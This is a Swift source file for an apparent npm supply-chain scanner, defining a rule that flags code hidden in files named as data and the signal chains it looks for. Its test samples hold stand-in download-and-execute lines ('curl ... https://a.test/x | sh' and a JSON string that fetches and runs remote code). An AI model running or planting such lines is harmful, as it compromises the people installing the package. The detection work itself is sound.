// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Code that does something of note lies in a file whose name says that it is data.
package struct CodeInDataFile: Rule {
    package init() {}

    package let card = RuleCard(
        id: "code-in-data-file", kind: .content, title: "Code in a data file", severity: .high, confidence: .medium, status: .stable,
        revision: 1, group: "payload",
        rationale:
            "Readers and scanners sort files by their names. A payload in `.json`, `.node`, `.txt` or under no ending is passed over, and a line elsewhere runs it.",
        knownFalseAlarms: ["Templates and test data of code generators.", "Recorded conversations, bundles kept as text."],
        references: ["https://cwe.mitre.org/data/definitions/506.html"],
        fires: [
            RuleSample(
                "in JSON",
                .sample([
                    "data.json":
                        #"{"v":"const c = require('child_process'); require('https').get('https://a.test', r => r.on('data', d => c.exec(String(d))))"}"#
                ])),
            RuleSample(
                "under no ending",
                .sample(["lib/cache": "const c = require('child_process'); c.exec('curl -s https://a.test/x | sh', { env: process.env })"])),
            RuleSample("a text as an add-on", .sample(["build/a.node": "const { exec } = require('child_process'); exec(process.env.A)"])),
        ],
        staysSilent: [
            RuleSample(
                "a list of modules", .sample(["core.json": #"{"child_process": true, "https": ">= 0.1", "vm": true, "request": "a"}"#])),
            RuleSample("data", .sample(["data.json": #"{"https":"a","exec":"b","process":{"env":{}}}"#])),
            RuleSample("a script under no ending", .sample(["bin/a": "#!/usr/bin/env node\nrequire('child_process').exec('ls')"])),
            RuleSample(
                "a manifest", .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"a":"curl https://a.test | sh"}}"#])),
            RuleSample("prose", .sample(["docs/guide.txt": "const c = require('child_process'); c.exec('curl https://a.test/x | sh')"])),
            RuleSample(
                "a map of sources", .sample(["a.js.map": #"{"sourcesContent":["require('child_process'); require('https').get(x)"]}"#])),
        ]
    )

    /// What data has no use for, two within reach of each other: a way to run and a way out or a secret.
    private static let chains: [[Sign]] = [
        [.processModule, .networkModule], [.processModule, .networkCall], [.processModule, .shellDownload],
        [.processModule, .pipesIntoShell],
        [.processModule, .decodes], [.runsText, .decodes], [.runsText, .networkModule], [.networkModule, .npmCredential],
        [.networkModule, .developerCredential], [.networkModule, .wallet], [.networkModule, .wholeEnvironment], [.decrypts, .runsText],
    ]

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        facts.files.compactMap { file in
            guard file.change != .same, let scan = file.scan, scan.allSigns.rawValue != 0, Self.isData(file), !file.isAside,
                file.file.bytes.count < 8 << 20
            else {
                return nil
            }
            // Whoever loads a `.node` expects machine code: any sign of a script is one too many.
            if file.path.hasSuffix(".node"),
                let place = [Sign.processModule, .networkModule, .runsText].lazy.compactMap({ scan.firstPlace(of: $0) }).first
            {
                return finding(file, [file.evidence(place)], strength: 1)
            }
            let chains = Self.chains.compactMap { chain in scan.chainStart(chain).map { (chain, $0) } }.filter { Self.isCode(file, $0.1) }
            guard let (chain, start) = chains.first else { return nil }
            let places = chain.compactMap { scan.place(of: $0, near: start) }
            return finding(file, places.map { file.evidence($0) }, strength: min(1, 0.15 + 0.35 * Double(chains.count - 1)))
        }
    }

    private func finding(_ file: FileFacts, _ evidence: [Evidence], strength: Double) -> Finding {
        card.finding(
            "\(file.path) is named as data and holds code", strength: strength, evidence: evidence,
            meaning: "Something in the package may load and run it; its name hides it from readers.")
    }

    /// Whether what stands around is code: lists of names hold the same words and none of its marks.
    private static func isCode(_ file: FileFacts, _ place: Range<Int>) -> Bool {
        let base = file.file.bytes.startIndex
        let near = file.file.bytes[max(base, base + place.lowerBound - 300)..<min(file.file.bytes.endIndex, base + place.upperBound + 300)]
        guard near.contains(UInt8(ascii: "(")), near.contains(UInt8(ascii: ")")) else { return false }
        return ["require(", "import(", "=>", "function", "eval(", "exec("].contains { near.firstRange(of: Array($0.utf8)) != nil }
    }

    private static func isData(_ file: FileFacts) -> Bool {
        let name = file.path.split(separator: "/").last.map { $0.lowercased() } ?? ""
        switch file.kind {
        case .json: return name != "package.json" && !name.hasSuffix(".map") && !name.hasSuffix("-lock.json") && !name.hasPrefix("tsconfig")
        case .otherText:
            guard let dot = name.lastIndex(of: ".") else {
                return ![
                    "license", "licence", "readme", "changelog", "makefile", "dockerfile", "jakefile", "gemfile", "rakefile", "history",
                    "notice", "authors",
                ].contains(name)
            }
            return ["node", "dat", "bin", "data", "db", "cache", "log", "ini", "conf", "woff", "woff2", "ttf", "png", "jpg", "ico"]
                .contains(name[name.index(after: dot)...])
        default: return false
        }
    }
}
